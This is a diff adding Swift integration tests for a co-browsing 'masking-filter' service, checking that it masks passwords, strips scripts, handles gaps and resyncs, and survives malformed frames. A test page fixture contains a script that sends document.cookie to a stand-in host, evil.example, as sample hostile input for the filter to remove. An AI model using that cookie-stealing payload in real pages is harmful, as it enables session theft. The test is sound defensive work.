@@ -1,0 +1,193 @@
+import AMQP
+import CobrowseProtocol
+import Foundation
+import ServiceKit
+import TestSupport
+import Testing
+
+/// `masking-filter` processes on their own virtual host: frames go into `cobrowse.ingest` the
+/// way the relay will send them, and come out of `cobrowse.view` / `cobrowse.sharer`.
+final class FilterFixture: @unchecked Sendable {
+    let url: String
+    let connection: AMQPConnection
+    var filters: [ServiceProcess] = []
+
+    init(_ name: String) async throws {
+        url = try await TestBroker.isolatedVirtualHost(name)
+        connection = try await AMQPConnection.connect(url: url)
+    }
+
+    @discardableResult
+    func startFilter() async throws -> ServiceProcess {
+        let filter = try ServiceProcess("masking-filter", environment: ["AMQP_URL": url, "INSTANCE_ID": "filter-\(filters.count)"])
+        filters.append(filter)
+        let ready = await eventually(within: .seconds(60)) { await filter.get("/ready")?.status == 200 }
+        try #require(ready, "filter never ready:\n\(filter.log)")
+        return filter
+    }
+
+    /// A consumer of what the filter publishes for `session` on `exchange`.
+    func listen(_ exchange: String, session: SessionID) async throws -> AMQPConsumer {
+        let queue = try await connection.declare(QueueDeclaration.serverNamedExclusive())
+        try await connection.bind(QueueBinding(queue: queue.name, exchange: exchange, routingKey: session.routingKey))
+        return try await connection.consume(queue: queue.name, prefetch: 2000)
+    }
+
+    func send(_ frame: StreamFrame, session: SessionID) async throws {
+        try await connection.publishUnconfirmed(AMQPMessage(body: try JSONEncoder().encode(frame)),
+                                                exchange: CobrowseTopology.ingestExchange, routingKey: session.routingKey)
+    }
+
+    func sendRaw(_ body: String, session: SessionID) async throws {
+        try await connection.publishUnconfirmed(AMQPMessage(body), exchange: CobrowseTopology.ingestExchange,
+                                                routingKey: session.routingKey)
+    }
+
+    func stop() async {
+        for filter in filters where filter.process.isRunning { _ = await filter.terminate() }
+        await connection.close()
+    }
+}
+
+/// A small page: a password field, a script, some text.
+func loginPage(password: String = "hunter2", text: String = "Hello") -> StreamEvent.Snapshot {
+    var field = DOMNode.element(4, "input", ["type": "password", "name": "pw", "value": password])
+    field.value = password
+    return StreamEvent.Snapshot(url: "https://shop.example/login", title: "Sign in", viewport: Size(w: 1280, h: 800), root:
+        .element(1, "html", [:], [
+            .element(2, "body", [:], [
+                .element(3, "form", [:], [field, .element(9, "input", ["type": "text", "name": "user"])]),
+                .element(5, "script", [:], [.text(6, "fetch('https://evil.example/?k='+document.cookie)")]),
+                .element(7, "p", ["onclick": "steal()"], [.text(8, text)]),
+            ]),
+        ]))
+}
+
+extension AMQPConsumer {
+    func frames(_ count: Int) async throws -> [(frame: StreamFrame, raw: String)] {
+        try await take(count).map { (try JSONDecoder().decode(StreamFrame.self, from: $0.body), String(decoding: $0.body, as: UTF8.self)) }
+    }
+}
+
+@Suite struct FilterIntegrationTests {
+    @Test func passwordsAndScriptsNeverReachTheViewExchange() async throws {
+        let fixture = try await FilterFixture("filter-mask")
+        defer { Task { await fixture.stop() } }
+        try await fixture.startFilter()
+        let session = SessionID.random()
+        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
+
+        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
+        try await fixture.send(StreamFrame(seq: 2, .input(.init(id: 4, value: "hunter2-and-more"))), session: session)
+        try await fixture.send(StreamFrame(seq: 3, .input(.init(id: 9, value: "alice"))), session: session)
+        let received = try await view.frames(3)
+        for (_, raw) in received {
+            #expect(!raw.contains("hunter2"), "a password reached the view exchange: \(raw)")
+            #expect(!raw.contains("evil.example") && !raw.contains("steal()"), "script content reached the view exchange: \(raw)")
+        }
+        guard case let .snapshot(snapshot) = received[0].frame.event else { Issue.record("first frame is not the snapshot"); return }
+        let form = snapshot.root.children?[0].children?[0]
+        #expect(form?.children?[0].attrs?["value"] == "****" && form?.children?[0].value == "****")
+        #expect(snapshot.root.children?[0].children?.count == 2, "the script must be gone")
+        #expect(received[1].frame.event == .input(.init(id: 4, value: "****")))
+        #expect(received[2].frame.event == .input(.init(id: 9, value: "alice")))
+        #expect(received.map(\.frame.seq) == [1, 2, 3])
+    }
+
+    @Test func withoutASnapshotViewersGetNothingAndTheSharerIsAskedForOne() async throws {
+        let fixture = try await FilterFixture("filter-closed")
+        defer { Task { await fixture.stop() } }
+        try await fixture.startFilter()
+        let session = SessionID.random()
+        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
+        let sharer = try await fixture.listen(CobrowseTopology.sharerExchange, session: session)
+
+        try await fixture.send(StreamFrame(seq: 7, .input(.init(id: 4, value: "typed before the snapshot"))), session: session)
+        let request = try #require(try await sharer.take(1).first)
+        let resync = try JSONDecoder().decode(ResyncRequest.self, from: request.body)
+        #expect(resync.t == "resync" && resync.reason.contains("no snapshot"))
+
+        // A snapshot then flows; the earlier input never does.
+        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage(text: "after"))), session: session)
+        let first = try #require(try await view.frames(1).first)
+        guard case .snapshot = first.frame.event else { Issue.record("expected the snapshot first, got \(first.raw)"); return }
+        #expect(!first.raw.contains("typed before the snapshot"))
+    }
+
+    @Test func aGapStopsTheStreamUntilAFreshSnapshot() async throws {
+        let fixture = try await FilterFixture("filter-gap")
+        defer { Task { await fixture.stop() } }
+        try await fixture.startFilter()
+        let session = SessionID.random()
+        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
+        let sharer = try await fixture.listen(CobrowseTopology.sharerExchange, session: session)
+
+        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
+        try await fixture.send(StreamFrame(seq: 3, .cursor(.init(x: 1, y: 1))), session: session) // seq 2 lost
+        try await fixture.send(StreamFrame(seq: 4, .cursor(.init(x: 2, y: 2))), session: session)
+        let resync = try JSONDecoder().decode(ResyncRequest.self, from: try #require(try await sharer.take(1).first).body)
+        #expect(resync.reason.contains("gap"))
+        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage(text: "again"))), session: session)
+        try await fixture.send(StreamFrame(seq: 2, .cursor(.init(x: 3, y: 3))), session: session)
+        let received = try await view.frames(3)
+        #expect(received.map(\.frame.event.type) == ["snapshot", "snapshot", "cursor"])
+        #expect(received.map(\.frame.seq) == [1, 2, 3])
+        #expect(received[2].frame.event == .cursor(.init(x: 3, y: 3)))
+    }
+
+    @Test func thousandRapidMutationsArriveCompleteAndInOrder() async throws {
+        let fixture = try await FilterFixture("filter-order")
+        defer { Task { await fixture.stop() } }
+        try await fixture.startFilter()
+        let session = SessionID.random()
+        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
+        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
+        for index in 0..<1_000 {
+            try await fixture.send(StreamFrame(seq: 2 + index, .mutations(.init(texts: [.init(id: 8, text: "item \(index)")]))),
+                                   session: session)
+        }
+        let received = try await view.frames(1_001)
+        #expect(received.map(\.frame.seq) == Array(1...1_001))
+        let texts = received.dropFirst().compactMap { entry -> String? in
+            if case let .mutations(m) = entry.frame.event { m.texts.first?.text } else { nil }
+        }
+        #expect(texts == (0..<1_000).map { "item \($0)" })
+    }
+
+    @Test func malformedFramesAreDroppedAndTheFilterKeepsGoing() async throws {
+        let fixture = try await FilterFixture("filter-poison")
+        defer { Task { await fixture.stop() } }
+        let filter = try await fixture.startFilter()
+        let session = SessionID.random()
+        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
+        try await fixture.sendRaw("not json", session: session)
+        try await fixture.sendRaw(#"{"t":"teleport","seq":1}"#, session: session)
+        try await fixture.connection.publishUnconfirmed(AMQPMessage("{}"), exchange: CobrowseTopology.ingestExchange, routingKey: "bogus")
+        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
+        #expect(try await view.frames(1).first?.frame.event.type == "snapshot")
+        for shard in 0..<CobrowseTopology.ingestShardCount {
+            #expect(try await fixture.connection.inspectQueue(CobrowseTopology.ingestShardQueue(shard)).messageCount == 0)
+        }
+        let metrics = await filter.get("/metrics")?.body ?? ""
+        #expect(metrics.contains(#"reason="malformed""#), "dropped frames must be counted:\n\(metrics)")
+    }
+
+    @Test func twoFiltersShareTheShardsAndEverySessionIsServed() async throws {
+        let fixture = try await FilterFixture("filter-scale")
+        defer { Task { await fixture.stop() } }
+        try await fixture.startFilter()
+        try await fixture.startFilter()
+        let sessions = (0..<12).map { _ in SessionID.random() }
+        var views: [AMQPConsumer] = []
+        for session in sessions { views.append(try await fixture.listen(CobrowseTopology.viewExchange, session: session)) }
+        for session in sessions {
+            try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage(text: "\(session)"))), session: session)
+            try await fixture.send(StreamFrame(seq: 2, .cursor(.init(x: 5, y: 5))), session: session)
+        }
+        for (session, view) in zip(sessions, views) {
+            let received = try await view.frames(2)
+            #expect(received.map(\.frame.seq) == [1, 2], "session \(session)")
+            #expect(received[0].raw.contains("\(session)"))
+        }
+    }
+}
